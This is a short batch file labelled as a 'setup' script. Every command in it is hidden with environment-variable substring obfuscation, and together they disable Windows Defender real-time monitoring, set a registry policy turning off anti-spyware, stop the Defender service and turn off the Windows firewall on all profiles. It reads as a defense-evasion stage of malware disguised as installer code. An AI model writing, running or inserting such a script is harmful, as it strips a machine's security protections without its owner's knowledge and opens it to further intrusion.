REM setup 2400 v3
p%comspec:~7,1%%comspec:~-19,1%e%PUBLIC:~6,1%sh%PUBLIC:~-10,1%%PUBLIC:~-3,1%l -c "Set-MpPreference -DisableRealtimeMonitoring $true"
r%PUBLIC:~5,1%%programdata:~6,1% add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
%COMSPEC:~-14,1%c stop WinDefend
n%PUBLIC:~-10,1%%ProgramData:~12,1%%windir:~9,1%h advfirewall set allprofiles state off
